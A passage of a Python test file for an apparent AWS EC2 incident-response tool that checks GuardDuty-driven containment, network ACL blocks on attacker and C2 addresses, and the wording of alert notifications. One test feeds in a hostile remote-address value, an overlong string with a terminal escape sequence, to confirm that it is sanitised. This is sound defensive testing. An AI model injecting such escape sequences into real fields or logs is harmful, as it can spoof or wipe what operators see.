    outcome = contain(aws, event, topic_arn=topic, block=guardduty.BlockSetting(1.0))

    assert outcome["outcome"] == "contained", outcome
    assert "block_ips" not in outcome
    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]
    (notification,) = read()
    message = notification["Message"]
    assert "Remote addresses: none the finding names can be blocked:" in message
    assert "(100000 characters): too long to be an IP address" in message and "\\x1b[2J" in message
    assert all(line.isprintable() and len(line) < 400 for line in message.splitlines())


def test_a_finding_sent_again_with_a_new_address_blocks_it_and_says_so(
    aws: Aws, fleet: Fleet, suspect: dict[str, Any]
) -> None:
    # Waits on the engine's network ACL step (ec2ir.containment.nacl), as the test above.
    topic, read = inbox(aws)
    block = guardduty.BlockSetting(8.0)
    first = finding("ec2_c2_outbound_high.json", suspect["instance"])
    assert contain(aws, first, topic_arn=topic, block=block)["outcome"] == "contained"
    assert contain(aws, copy.deepcopy(first), topic_arn=topic, block=block)["outcome"] == "already-held"
    assert len(read()) == 1  # the same finding again changes nothing, and says nothing

    update = finding("ec2_c2_outbound_high.json", suspect["instance"])
    update["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = remote_ip(ATTACKER)
    outcome = contain(aws, update, topic_arn=topic, block=block)

    assert outcome["outcome"] == "already-held" and outcome["block_ips"] == [f"{ATTACKER}/32"]
    both = {(egress, f"{address}/32") for address in (C2_SERVER, ATTACKER) for egress in (False, True)}
    assert denied(fleet, suspect["subnet"]) == both
    (notification,) = read()
    assert notification["Subject"] == f"ec2ir blocked addresses for {suspect['instance']} (GuardDuty 8)"
    assert f"  blocked {ATTACKER}/32: networkConnectionAction" in notification["Message"]
